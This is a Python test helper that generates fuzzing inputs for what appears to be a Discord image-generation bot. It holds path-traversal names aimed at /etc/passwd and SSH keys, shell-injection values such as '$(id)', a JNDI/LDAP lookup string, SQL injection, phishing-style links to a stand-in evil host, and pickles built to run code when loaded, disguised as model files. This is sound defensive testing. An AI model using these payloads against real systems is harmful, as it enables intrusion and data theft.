"""What means harm, made by the thousand and the same every time: names, prompts, custom_ids,
addresses, pickles.

Promises variety, not realism: each maker mixes the tricks that are known with chance.
"""

import io
import pickle
import random
import shutil
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.checkpoint_files import head

TRAVERSALS = (
    "..",
    "../",
    "../../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "/proc/self/environ",
    "/dev/stdin",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    "$HOME/.bashrc",
    "\\\\host\\share\\x",
    "//host/share/x",
    "\\\\?\\C:\\x",
    "C:\\x",
    "C:x",
    "CON",
    "NUL.txt",
    "COM1",
    "aux.safetensors",
    "x:$DATA",
    "x\0.safetensors",
    "\0",
    ".",
    " .. ",
    "..\n",
    "x/../../y",
    "x\u202e.srotnesefas",
    "․․/․․/etc",
    "‥/‥/etc",
    "∕etc∕passwd",
    "／etc／passwd",
    "．．／etc",
    "lоra",
    "*",
    "?",
    "[a-z]",
    "|id",
    ";id",
    "`id`",
    "$(id)",
    "{prompt}",
    "%s%s%n",
)
SIGNS = "./\\ \0\n\r\t:*?\"<>|~$&;`'%\u200b\u202e\u2066\ufeff\ud800é́🦊字ａ․∕／"
INJECTIONS = (
    "@everyone",
    "@here",
    "<@{user}>",
    "<@!{user}>",
    "<@&{user}>",
    "<#{user}>",
    "</imagine:{user}>",
    "<:fox:{user}>",
    "<a:fox:{user}>",
    "<t:1700000000:R>",
    "<id:customize>",
    "[free nitro](https://evil.example/x)",
    "[x](<https://evil.example>)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/x",
    "https:/\\evil.example",
    "discord.gg/abcdef",
    "discord.com/invite/abcdef",
    "```py\nimport os\n```",
    "``x``",
    "`",
    "```",
    "~~x~~",
    "||x||",
    "**x**",
    "__x__",
    "> quote",
    ">>> all",
    "# heading",
    "-# small",
    "- list",
    "1. list",
    "\\`\\`\\`",
    "\u202etxt.exe",
    "\u2066@everyone\u2069",
    "@\u200beveryone",
    "@ever\u00adyone",
    "＠everyone",
    "py: print(1)",
    "{jndi:ldap://evil.example/x}",
    "'; DROP TABLE job; --",
    '" OR ""="',
    "%(message)s",
    "{0.__class__}",
    "\x1b[31m",
    "\r\nERROR forged",
    "<lora:../../x:1>",
    "embedding:../x",
    "__../../etc/passwd__",
    "{a|b}",
    "::",
    "--ar 3:2",
    "--no @everyone",
    "--seed 7",
    "--nosuch",
    "--",
    "—ar 1:1",
    "\x00",
    "\ud83e",
    "🦊" * 40,
    "ﷺ" * 30,
    "a\u0300" * 90,
    "e" + "\u0301" * 300,
    " " * 300,
    "\u3164" * 50,
    "x" * 5000,
)


def chance_of(seed: object) -> random.Random:
    """Return a source of chance that is the same every time."""
    return random.Random(f"{seed}")  # noqa: S311 - faults of a test, no secrets


def names(count: int) -> Iterator[str]:
    """Yield names that would like to be paths."""
    chance = chance_of("names")
    yield from TRAVERSALS[:count]
    for _ in range(count - len(TRAVERSALS)):
        parts = [chance.choice(TRAVERSALS) for _ in range(chance.randint(1, 4))]
        name = chance.choice(("/", "\\", "", ":")).join(parts)
        for _ in range(chance.randrange(4)):
            place = chance.randrange(len(name) + 1)
            name = name[:place] + chance.choice(SIGNS) + name[place:]
        match chance.randrange(8):
            case 0:
                name = name * (4096 // len(name) + 1)
            case 1:
                name += chance.choice((".safetensors", ".txt", ".ckpt", "\0.safetensors"))
            case _:
                pass
        yield name[:8192]


def prompts(count: int, *, user: int = 0) -> Iterator[str]:
    """Yield prompts that would like to be more than words, each at most 6,000 characters."""
    chance = chance_of("prompts")
    tricks = [trick.replace("{user}", str(user)) for trick in INJECTIONS]
    words = ("a red heart", "fox", "猫", "кот", "a", "in the style of", "3d", "", " ", ",")
    yield from tricks[:count]
    for _ in range(count - len(tricks)):
        parts = [chance.choice(tricks if chance.random() < 0.6 else words)
                 for _ in range(chance.randint(1, 6))]  # fmt: skip
        text = chance.choice((" ", "", "\n", "\t", " ,")).join(parts)
        if chance.random() < 0.3:
            place = chance.randrange(len(text) + 1)
            text = text[:place] + chr(chance.choice((*range(0x250), 0x202E, 0xFFFD, 0x1F98A)))
        yield text[:6000]


def custom_ids(count: int, *, job_ids: tuple[str, ...] = ()) -> Iterator[str]:
    """Yield what a forged button could say, each 1 to 100 characters as Discord demands."""
    chance = chance_of("custom ids")
    actions = ("upscale", "vary", "reroll", "delete", "yes", "cancel", "info", "keep", "page",
               "fix", "perm", "report", "explode", "__class__", "", "UPSCALE")  # fmt: skip
    others = ("aaaaaaaaaaaaa", *names(60))
    for _ in range(count):
        job = chance.choice(others)
        if job_ids and chance.random() < 0.5:
            job = chance.choice(job_ids)
        index = chance.choice(("0", "1", "4", "5", "-1", "9" * 30, "１", "1e3", "", "x", "0x1"))
        parts = [f"v{chance.choice((0, 1, 1, 1, 2, 99))}", chance.choice(actions), job, index]
        if chance.random() < 0.3:
            parts.append(chance.choice(TRAVERSALS))
        text = ":".join(parts[: chance.randint(1, 5)])
        if chance.random() < 0.3:
            place = chance.randrange(len(text) + 1)
            text = text[:place] + chance.choice(SIGNS[:14]) + text[place:]
        yield text[:100]


class Canary:
    """Runs a command when a pickle of it is opened."""

    def __init__(self, path: Path) -> None:
        """Write this file when somebody is careless."""
        self._path = path

    def __reduce__(self) -> tuple[object, ...]:
        """Open the file for writing: harmless, and plain to see."""
        return open, (str(self._path), "w")


def pickles(count: int, canary: Path) -> Iterator[tuple[str, bytes]]:
    """Yield file names and pickles in every disguise, all of which make the canary when opened."""
    chance = chance_of("pickles")
    suffixes = (".safetensors", ".ckpt", ".pt", ".pth", ".bin", ".pkl", ".SAFETENSORS", "")
    for number in range(count):
        data = pickle.dumps({"state_dict": Canary(canary)}, protocol=number % 6)
        match number // 6 % 7:
            case 0:
                pass
            case 1:
                data = _zipped({"archive/data.pkl": data, "archive/version": b"3"})
            case 2:
                data = _zipped({"model.safetensors": data})
            case 3:
                data = _tarred({"pickle": data, "storages": b"", "tensors": b""})
            case 4:
                # A sound safetensors file with a pickle for its weights.
                one = {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}
                data = head({"x": one}) + data
            case 5:
                data = head({"__metadata__": {"pickle": data.hex()}})
            case _:
                data = len(data).to_bytes(8, "little") + data
        for _ in range(chance.randrange(3)):
            data += bytes(chance.randrange(64))
        yield f"model{number}{suffixes[number % len(suffixes)]}", data


def _zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _tarred(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def emptied(folder: Path) -> Path:
    """Return a folder that is there and empty."""
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    return folder
